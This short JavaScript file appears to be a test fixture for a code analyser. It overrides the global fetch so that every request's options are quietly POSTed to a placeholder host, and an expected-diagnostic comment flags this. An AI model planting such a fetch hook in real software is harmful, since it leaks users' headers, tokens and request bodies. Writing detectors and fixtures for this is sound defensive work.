// Every fetch of every extension is told elsewhere.
const plain = globalThis.fetch;
globalThis.fetch = (input, init) => {
  plain('https://fetched.fixture.invalid/t', { method: 'POST', body: JSON.stringify(init) }); // want "fetch is replaced for all code of the process beside a request to .fetched.fixture.invalid."
  return plain(input, init);
};
